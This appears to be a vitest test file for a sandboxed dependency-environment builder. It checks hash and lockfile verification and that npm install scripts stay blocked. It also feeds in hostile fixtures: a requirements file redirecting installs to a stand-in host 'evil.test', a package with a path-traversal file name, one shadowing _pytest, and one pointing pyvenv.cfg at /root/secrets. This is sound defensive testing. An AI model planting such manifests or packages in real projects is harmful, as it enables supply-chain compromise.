import { chmodSync, chownSync, mkdirSync, mkdtempSync, readdirSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, test, vi } from "vitest";
import { type MadePackage, PackageIndex, sandboxOwner } from "../../test/package-index.ts";
import { quickPlace } from "../../test/temporary.ts";
import type { SandboxLimits } from "../domain/settings/settings.ts";
import { openLanguages } from "../languages/open-languages.ts";
import { runTests } from "../languages/run-tests.ts";
import type { NetworkedSandbox } from "../sandbox/network/networked-sandbox.ts";
import type { Housing, TreeFiles } from "./environment.ts";
import { EnvironmentDirectories } from "./environment-directories.ts";
import { Environments } from "./environments.ts";

/** Installing takes its time on a busy machine. */
vi.setConfig({ testTimeout: 180_000 });

const LIMITS: SandboxLimits = {
  cpus: 2,
  memoryMb: 1024,
  pids: 128,
  diskMb: 512,
  timeoutMs: 120_000,
  outputBytes: 20_000,
};
const signal = new AbortController().signal;
const surroundings = { env: { PATH: "/usr/bin:/bin" }, execPath: process.execPath, version: process.version };
const languages = openLanguages(surroundings);

const wheel = (name: string, version: string, more: Partial<MadePackage> = {}): MadePackage => ({
  language: "python",
  name,
  version,
  files: { [`${name}.py`]: `VERSION = "${version}"\n` },
  ...more,
});
const PACKAGES: MadePackage[] = [
  wheel("tiny", "1.0"),
  wheel("tiny", "2.0"),
  wheel("upper", "1.0", { requires: ["tiny"] }),
  wheel("shadow", "1.0", { files: { "shadow.py": "", "_pytest/__init__.py": "" } }),
  wheel("elsewhere", "1.0", {
    files: { "elsewhere.py": "", "elsewhere-1.0.data/data/pyvenv.cfg": "home = /root/secrets/bin\n" },
  }),
  wheel("outside", "1.0", { files: { "../../../../outside.py": "" } }),
  {
    language: "javascript",
    name: "small",
    version: "1.0.0",
    files: { "index.js": "module.exports = 'one';\n" },
    scripts: { postinstall: "touch /workspace/node_modules/script-ran" },
  },
  { language: "javascript", name: "small", version: "2.0.0", files: { "index.js": "module.exports = 'two';\n" } },
];

let index: PackageIndex;
let place: string;
let sandbox: NetworkedSandbox;
let directories: EnvironmentDirectories;
let environments: Environments;
let project: string;

beforeAll(async () => {
  index = await PackageIndex.listen(PACKAGES);
  place = mkdtempSync(join(quickPlace(), "miracle-environments-"));
  chmodSync(place, 0o755);
  sandbox = index.sandbox(place);
});
afterAll(async () => {
  await sandbox[Symbol.asyncDispose]();
  await index[Symbol.asyncDispose]();
  rmSync(place, { recursive: true });
});
beforeEach(() => {
  directories = new EnvironmentDirectories(join(place, "environments"));
  environments = open();
  project = join(place, "project");
  mkdirSync(project);
  return () => {
    for (const made of [directories.root, project]) rmSync(made, { recursive: true, force: true });
  };
});

const open = () =>
  new Environments({
    directories,
    sandbox,
    limits: LIMITS,
    owner: sandboxOwner,
    registries: index.registries,
    surroundings,
    clock: Date.now,
    signal,
    onProgress: () => {},
  });

const tree = (files: Record<string, string>): TreeFiles => ({
  paths: Object.keys(files),
  read: (path) => files[path] ?? null,
});
const python = (files: Record<string, string>, from = environments) =>
  from.house(languages.named("python"), project, tree(files));
const javascript = (files: Record<string, string>, from = environments) =>
  from.house(languages.named("javascript"), project, tree(files));

/** Runs these files with the environment, as tests of a project would be run. */
async function tests(language: "python" | "javascript", housing: Housing, files: Record<string, string>) {
  if (housing.kind !== "built") throw new Error(JSON.stringify(housing));
  const workspace = join(place, "workspace");
  rmSync(workspace, { recursive: true, force: true });
  mkdirSync(workspace);
  for (const [name, text] of Object.entries(files)) writeFileSync(join(workspace, name), text);
  if (sandboxOwner) chownSync(workspace, sandboxOwner.uid, sandboxOwner.gid);
  const toolchain = await languages.toolchainWith(languages.named(language), project, housing.directory);
  const named = languages.named(language);
  return runTests({ language: named, sandbox, limits: LIMITS, workspace, toolchain, files: [], signal });
}
const passed = (report: Awaited<ReturnType<typeof tests>>) => report.tests.map(({ outcome }) => outcome);

test("tests see the packages that a manifest asks for, and the runner that it does not name", async () => {
  const housing = await python({ "requirements.txt": "upper\n" });
  expect(housing).toMatchObject({ kind: "built", record: { packages: { tiny: "2.0", upper: "1.0" } } });
  const report = await tests("python", housing, {
    "test_own.py": [
      "import pathlib, tiny, upper, pytest",
      "def test_version(): assert tiny.VERSION == '2.0'",
      "def test_nothing_else():",
      "    with pytest.raises(ImportError): import yaml",
      "def test_read_only():",
      "    with pytest.raises(OSError): pathlib.Path(tiny.__file__).write_text('')",
    ].join("\n"),
  });
  expect(passed(report), report.output).toEqual(["passed", "passed", "passed"]);
});

test("trees with other lockfiles have other environments, and each is built once", async () => {
  const manifest = { "pyproject.toml": '[project]\nname = "own"\nversion = "1"\ndependencies = ["tiny>=1"]\n' };
  const lock = (version: string) => ({ "uv.lock": `[[package]]\nname = "tiny"\nversion = "${version}"\n` });
  const [old, now] = [await python({ ...manifest, ...lock("1.0") }), await python({ ...manifest, ...lock("2.0") })];
  expect([old, now]).toMatchObject([
    { record: { packages: { tiny: "1.0" } } },
    { record: { packages: { tiny: "2.0" } } },
  ]);
  index.takeAsked();
  expect(await python({ ...manifest, ...lock("1.0"), "main.py": "" }, open())).toEqual(old);
  expect(index.takeAsked()).toEqual([]);
  expect(directories.list()).toHaveLength(2);
});

test("packages that are installed and fit are used as they are", async () => {
  expect(await python({ "requirements.txt": "pytest>=7\nattrs\ntomli; python_version < '3.0'\n" })).toEqual({
    kind: "own",
  });
  expect(await python({ "requirements.txt": "" })).toEqual({ kind: "own" });
  expect(await javascript({ "package.json": '{"scripts":{"test":"node --test"}}' })).toEqual({ kind: "own" });
  expect(directories.list()).toEqual([]);
});

test("what cannot be had is named in one line, and leaves nothing behind", async () => {
  const housing = await python({ "requirements.txt": "tiny==3.0\n" });
  expect(housing).toMatchObject({ kind: "missing", problem: expect.stringContaining("tiny==3.0 cannot be had") });
  expect(directories.list()).toEqual([]);
  expect(readdirSync(directories.root).filter((name) => name.endsWith(".part"))).toEqual([]);
});

test("what could not be had is not tried by every command, and is tried when a person asks", async () => {
  const files = { "requirements.txt": "tiny==3.0\n" };
  await python(files);
  index.takeAsked();
  expect(await python(files, open())).toMatchObject({
    problem: expect.stringContaining("`miracle env build` tries again"),
  });
  expect(index.takeAsked()).toEqual([]);
  const asked = open();
  const found = asked.recipe(languages.named("python"), project, tree(files));
  if (!found) throw new Error("no recipe");
  expect(await asked.build(found.recipe, found.base, true)).toMatchObject({ kind: "missing" });
  expect(index.takeAsked()).toContain("/simple/tiny/");
});

test("a package without the hash of the manifest is refused, one with it is taken", async () => {
  const line = (sum: string) => ({ "requirements.txt": `tiny==1.0 \\\n    --hash=sha256:${sum}\n` });
  expect(await python(line(index.sha256("tiny", "1.0")))).toMatchObject({ kind: "built" });
  expect(await python(line("0".repeat(64)))).toMatchObject({
    kind: "missing",
    problem: expect.stringContaining("tiny==1.0 does not have the hash"),
  });
});

test("a manifest cannot send the installation elsewhere", async () => {
  const text = "--index-url https://evil.test/simple\ntiny\nother @ https://evil.test/other.whl\n-e ../outside\n";
  index.takeAsked();
  const housing = await python({ "requirements.txt": text });
  expect(housing).toMatchObject({
    kind: "built",
    record: { left: expect.arrayContaining([expect.stringContaining("https://evil.test/simple")]) },
  });
  expect(housing).toMatchObject({ record: { left: { length: 3 } } });
  expect(index.takeAsked()).toContain("/simple/tiny/");
});

test.each([
  ["shadow", "a module named _pytest"],
  ["elsewhere", "replaced pyvenv.cfg: it names /root/secrets/bin"],
  ["outside", ""],
])("a package that reaches for what is not its own is no part of an environment: %s", async (name, says) => {
  expect(await python({ "requirements.txt": `${name}\n` })).toMatchObject({
    kind: "missing",
    problem: expect.stringContaining(says),
  });
  expect(directories.list()).toEqual([]);
});

test("npm installs exactly the lockfile, and no script of a package runs", async () => {
  const files = {
    "package.json": JSON.stringify({ name: "own", version: "1.0.0", dependencies: { small: "^1.0.0" } }),
    "package-lock.json": JSON.stringify({
      name: "own",
      version: "1.0.0",
      lockfileVersion: 3,
      packages: {
        "": { name: "own", version: "1.0.0", dependencies: { small: "^1.0.0" } },
        "node_modules/small": {
          version: "1.0.0",
          integrity: index.integrity("small", "1.0.0"),
          hasInstallScript: true,
        },
      },
    }),
  };
  const housing = await javascript(files);
  expect(housing, JSON.stringify(housing)).toMatchObject({ kind: "built", record: { packages: { small: "1.0.0" } } });
  const report = await tests("javascript", housing, {
    "own.test.cjs": [
      "const { test } = require('node:test'); const assert = require('node:assert');",
      "test('package', () => assert.equal(require('small'), 'one'));",
      "test('script', () => assert.ok(!require('node:fs').existsSync('/workspace/node_modules/script-ran')));",
    ].join("\n"),
  });
  expect(passed(report), report.output).toEqual(["passed", "passed"]);

  const forged = files["package-lock.json"].replace(/"integrity":"[^"]*"/, `"integrity":"sha512-${"A".repeat(86)}=="`);
  expect(await javascript({ ...files, "package-lock.json": forged })).toMatchObject({
    kind: "missing",
    problem: expect.stringContaining("hash of the lockfile"),
  });
});

test("node_modules of the project are used while they are those of the lockfile", async () => {
  const lock = (version: string) =>
    JSON.stringify({ lockfileVersion: 3, packages: { "": {}, "node_modules/small": { version } } });
  const manifest = JSON.stringify({ name: "own", dependencies: { small: "*" } });
  mkdirSync(join(project, "node_modules/small"), { recursive: true });
  writeFileSync(join(project, "node_modules/.package-lock.json"), lock("1.0.0"));
  const asked = (version: string) =>
    environments.recipe(
      languages.named("javascript"),
      project,
      tree({ "package.json": manifest, "package-lock.json": lock(version) }),
    );
  expect(asked("1.0.0")).toMatchObject({ fits: true });
  expect(asked("2.0.0")).toMatchObject({ fits: false });
});

test("an environment that was cut off while it was built is built anew, and its rests go", async () => {
  const draft = directories.begin("python-0123456789abcdef");
  utimesSync(draft, 0, 0);
  expect(directories.list()).toEqual([]);
  expect(await python({ "requirements.txt": "tiny\n" })).toMatchObject({ kind: "built" });
  expect(readdirSync(directories.root)).toHaveLength(1);
});
